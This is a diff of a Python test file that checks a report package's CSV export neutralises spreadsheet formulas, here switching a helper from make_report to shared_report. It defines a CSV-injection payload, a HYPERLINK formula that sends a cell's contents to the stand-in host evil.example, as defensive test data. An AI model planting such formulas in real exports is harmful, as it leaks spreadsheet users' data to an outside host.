@@ -11,7 +11,7 @@ from techmonitor.report.context import SectorSeries
 from techmonitor.report.results import csv_text, safe_cell
 from techmonitor.report.results_data import results_of
 
-from .report_helpers import make_report
+from .report_helpers import shared_report
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")'
 
@@ -21,7 +21,7 @@ def _rows(text: str) -> list[dict[str, str]]:
 
 
 def test_a_formula_in_a_sector_name_reaches_the_csv_as_text() -> None:
-    ctx = make_report("national.yaml").context
+    ctx = shared_report("national.yaml").context
     series = pd.DataFrame({"period": ["2023Q1", "2023Q2"], "value": [-3.5, 1250.0],
                            "status": ["definitive", "provisional"],
                            "vintage": ["cbs-80472ned", "@v2"], "source": ["+cbs", "cbs"]})
